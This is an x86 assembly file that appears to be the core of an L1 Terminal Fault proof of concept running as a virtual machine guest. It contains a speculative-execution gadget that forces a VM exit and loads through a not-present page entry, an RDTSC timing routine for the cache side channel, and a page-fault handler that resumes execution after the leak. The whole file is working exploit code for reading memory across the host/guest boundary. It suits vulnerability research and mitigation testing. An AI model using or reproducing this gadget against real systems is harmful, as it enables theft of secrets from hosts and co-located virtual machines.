/* l1tf's assembly: the transient gadget, a timed load, and the #PF entry that resumes after the gadget. */

#include "l1tf.h"

	.section .text

/* void leak_once(const uint8_t *target, const uint8_t *probe): make the host run its exit path (CPUID is a
 * VM exit), then load through the not-present entry; before the #PF retires an affected CPU loads
 * probe[value * PROBE_STRIDE]. The #PF handler resumes at leak_done. */
	.globl leak_once
leak_once:
	pushl %ebx
	pushl %esi
	pushl %edi
	xorl %eax, %eax
	cpuid
	movl 16(%esp), %esi
	movl 20(%esp), %edi
	movl $leak_done, pf_recovery
	movzbl (%esi), %eax
	imull $PROBE_STRIDE, %eax, %eax
	movb (%edi,%eax), %al
leak_done:
	movl $0, pf_recovery
	popl %edi
	popl %esi
	popl %ebx
	ret

/* uint32_t time_load(const volatile uint8_t *p): cycles for one load, by RDTSC before and after. */
	.globl time_load
time_load:
	movl 4(%esp), %ecx
	pushl %esi
	rdtsc
	movl %eax, %esi
	movb (%ecx), %al
	rdtsc
	subl %esi, %eax
	popl %esi
	ret

/* #PF: the CPU pushed an error code, EIP, CS, EFLAGS. Resume at pf_recovery, or report and stop. */
	.globl pf_entry
pf_entry:
	addl $4, %esp
	cmpl $0, pf_recovery
	je unexpected_entry
	pushl %eax
	movl pf_recovery, %eax
	movl %eax, 4(%esp)
	popl %eax
	iret

	.globl unexpected_entry
unexpected_entry:
	call unexpected_trap
	cli
	hlt

	.section .data
	.globl pf_recovery
pf_recovery:
	.long 0
